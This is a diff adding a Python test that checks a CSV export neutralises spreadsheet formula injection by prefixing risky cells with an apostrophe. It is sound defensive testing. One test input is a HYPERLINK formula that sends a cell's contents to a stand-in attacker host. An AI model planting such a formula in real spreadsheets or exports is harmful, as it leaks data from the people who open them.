@@ -297,6 +297,22 @@ def test_csv_export_equals_the_rows(db: sqlite3.Connection) -> None:
     assert parsed[3]["votes_down"] == "1" and parsed[3]["interaction_id"] == "3"
 
 
+def test_csv_export_cannot_run_formulas_in_a_spreadsheet(db: sqlite3.Connection) -> None:
+    """A member's question or name opening with =, +, -, @ (or a tab or carriage return) is a
+    formula to Excel and LibreOffice: the moderator opening the export would run it."""
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd", "-2+3", "@SUM(1)"]
+    for n, text in enumerate([*formulas, "\tx", "\rx"]):
+        add(db, interaction_id=n, query=text, user_name=text)
+    add(db, interaction_id=9, query="a = b - c", user_name="ann", results=[])
+    out = io.BytesIO()
+    assert review.export(db, review.Filters(), "csv", out) == 7
+    parsed = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
+    for row, text in zip(parsed, [*formulas, "\tx", "\rx"], strict=False):
+        assert row["query"] == row["user_name"] == "'" + text
+    assert parsed[-1]["query"] == "a = b - c" and parsed[-1]["results"] == "[]"
+    assert parsed[0]["top_score"] == "5.0" and parsed[0]["votes_down"] == "0"
+
+
 def test_jsonl_export_equals_the_rows(db: sqlite3.Connection) -> None:
     add(db, interaction_id=1, query="first")
     add(db, interaction_id=2, query="sécond", outcome="no_results", results=[])
